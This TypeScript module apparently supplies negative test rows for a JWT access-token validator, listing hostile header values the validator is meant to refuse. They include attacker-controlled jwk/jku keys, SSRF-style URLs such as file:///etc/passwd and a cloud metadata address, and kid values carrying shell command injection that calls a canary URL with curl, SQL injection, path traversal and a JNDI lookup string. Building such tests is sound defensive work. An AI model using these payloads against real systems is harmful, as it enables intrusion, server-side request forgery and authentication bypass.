import {
  also,
  BY_ATTACKER,
  CLAIMS,
  type Entry,
  HEADER,
  header,
  HEADER_TEXT,
  headerText,
  literal,
  type Recipe,
  refused,
} from './recipe.js';

/** Classes about the other header parameters: keys in the header, `kid`, `crit`, `typ`. */

const KEYS_IN_HEADER: readonly Entry[] = [
  ...header('jwk', [literal('{{ATTACKER_JWK}}'), literal('{{ATTACKER_JWK_PRIVATE}}')]),
  ...header('jwk', [literal('{{LIVE_JWK}}'), null, {}, 'x']),
  ...header('jku', ['{{CANARY_URL}}', '{{JWKS_URL}}', '{{JWKS_URL}}@canary.invalid/', '', null]),
  ...header('jku', ['file:///etc/passwd', 'http://169.254.169.254/', 'data:application/json,{}']),
  ...header('x5u', ['{{CANARY_URL}}', null]),
  ...header('x5c', [['{{ATTACKER_X5C}}'], []]),
  ...header('x5t', ['A'.repeat(27), null]),
  ...header('x5t#S256', ['A'.repeat(43), null]),
];

function inHeader(base: Readonly<Record<string, string>>): Entry[] {
  return KEYS_IN_HEADER.map(([name, { header: parameters }]) => {
    const { alg: _alg, typ: _typ, kid: _kid, ...others } = parameters ?? {};
    return [`${name} beside ${JSON.stringify(base)}`, { header: { ...base, ...others } }];
  });
}

const keyInjection = refused(
  'key-injection',
  KEYS_IN_HEADER,
  also('by the attacker', BY_ATTACKER, KEYS_IN_HEADER),
  also('by the attacker', BY_ATTACKER, inHeader({ ...HEADER, kid: '{{ATTACKER_KID}}' })),
  also('by the attacker', BY_ATTACKER, inHeader({ alg: 'ES256', typ: '{{TYP}}' })),
  headerText([`{${HEADER_TEXT},"j\\u0077k":{}}`, `{${HEADER_TEXT},"x5t\\u0023S256":"x"}`]),
  also('kid of the attacker', { ...BY_ATTACKER, header: { ...HEADER, kid: '{{ATTACKER_KID}}' } }, [
    ['jku in the claims', { payload: { ...CLAIMS, jku: '{{CANARY_URL}}' } }],
    ['jwk in the claims', { payload: { ...CLAIMS, jwk: literal('{{ATTACKER_JWK}}') } }],
  ]),
);

const KIDS = header(
  'kid',
  ['', ' ', '../../../../../../dev/null', '/dev/null', '/proc/sys/kernel/randomize_va_space'],
  ['|sleep 10', '| curl {{CANARY_URL}}', '$(curl {{CANARY_URL}})', '`id`', ';ls', "' OR 1=1--"],
  ["x' UNION SELECT 'secret';--", '{{CANARY_URL}}', 'file:///dev/null', '${jndi:ldap://x/a}'],
  ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'isPrototypeOf', 'size', '0'],
  ['{{KID}} ', ' {{KID}}', '{{KID}}\u0000', '{{KID}}\n', '{{KID}},x', '{{KID}}/', '%00{{KID}}'],
  ['{{KID}}{{KID}}', '*', '?', '[object Object]', 'undefined', 'null', '\u202e{{KID}}', '\u00e9'],
  ['k'.repeat(129), 'k'.repeat(128), '{{RETIRED_KID}}', '{{ATTACKER_KID}}', '{{ENC_KID}}'],
  [null, true, 0, 1.5, [], ['{{KID}}'], {}, { $ne: null }, undefined],
);
const EMPTY_HMAC: Recipe = { sign: { by: 'hmac', key: { kind: 'empty' } } };

const kidInjection = refused(
  'kid-injection',
  KIDS,
  also('by the attacker', BY_ATTACKER, KIDS),
  also('by an empty HMAC key', EMPTY_HMAC, KIDS),
  KIDS.map(([name, recipe]): Entry => [
    `${name}, HS256 by an empty key`,
    { ...EMPTY_HMAC, header: { ...recipe.header, alg: 'HS256' } },
  ]),
  also('by the retired key', { sign: { by: 'retired' } }, [
    ['its own kid', { header: { ...HEADER, kid: '{{RETIRED_KID}}' } }],
    ['the live kid', {}],
  ]),
  also('by the attacker', BY_ATTACKER, [['the live kid', {}]]),
  headerText([`{"kid":"x",${HEADER_TEXT}}`, `{"k\\u0069d":"x",${HEADER_TEXT}}`]),
);

const headerParams = refused(
  'header-params',
  header('crit', [[], null, '', 'exp', ['exp'], ['alg'], ['b64'], ['x'], [''], [1], {}, true]),
  header('crit', [['x', 'x'], [null], [[]], { length: 0 }, 0]),
  header('zip', ['DEF', 'GZ', '', null, false]),
  header('enc', ['A256GCM', '', null]),
  header('b64', [true, false, null, 'true']),
  [
    ['crit b64 with b64 true', { header: { ...HEADER, crit: ['b64'], b64: true } }],
    ['crit b64 with b64 false', { header: { ...HEADER, crit: ['b64'], b64: false } }],
    ['crit x with x', { header: { ...HEADER, crit: ['x'], x: 1 } }],
  ],
  headerText([`{${HEADER_TEXT},"\\u0063rit":["x"]}`, `{${HEADER_TEXT},"zi\\u0070":"DEF"}`]),
);

const tokenType = refused(
  'token-type',
  header(
    'typ',
    [undefined, null, '', ' ', 'JWT', 'jwt', 'at-jwt', 'atjwt', 'at+jw', 'at+jwts', 'at jwt'],
    ['at%2Bjwt', 'at+jwt ', ' at+jwt', 'at+jwt\n', 'at+jwt\u0000', 'at+jwt;v=1', 'x at+jwt'],
    ['at+jwt; charset=utf-8', 'application/', 'application/jwt', 'application/json', 'text/at+jwt'],
    ['application/application/at+jwt', 'applications/at+jwt', '/at+jwt', 'application//at+jwt'],
    ['at+jwt,JWT', 'xat+jwt', 'logout+jwt', 'dpop+jwt', 'secevent+jwt', 'statuslist+jwt'],
    [
      'token-introspection+jwt',
      'confirmation+jwt',
      'oauth-authz-req+jwt',
      'id_token+jwt',
      'rt+jwt',
    ],
    ['JOSE', 'JOSE+JSON', 'vc+sd-jwt', '\u0251t+jwt', 'at+\u017fwt', 'a\u0166+jwt', 'at\uff0bjwt'],
    [0, true, [], ['at+jwt'], { typ: 'at+jwt' }],
  ),
  [
    [
      'typ only in the claims',
      { header: { alg: 'ES256', kid: '{{KID}}' }, payload: { ...CLAIMS, typ: 'at+jwt' } },
    ],
    [
      'an ID token',
      { header: { ...HEADER, typ: 'JWT' }, payload: { ...CLAIMS, nonce: 'n', at_hash: 'h' } },
    ],
    [
      'a DPoP proof of the live key',
      {
        header: { ...HEADER, typ: 'dpop+jwt' },
        payload: { jti: 'x', htm: 'GET', htu: '{{HTU}}', iat: '#NOW#' },
      },
    ],
  ],
);

export const HEADER_ROWS = [keyInjection, kidInjection, headerParams, tokenType].flat();
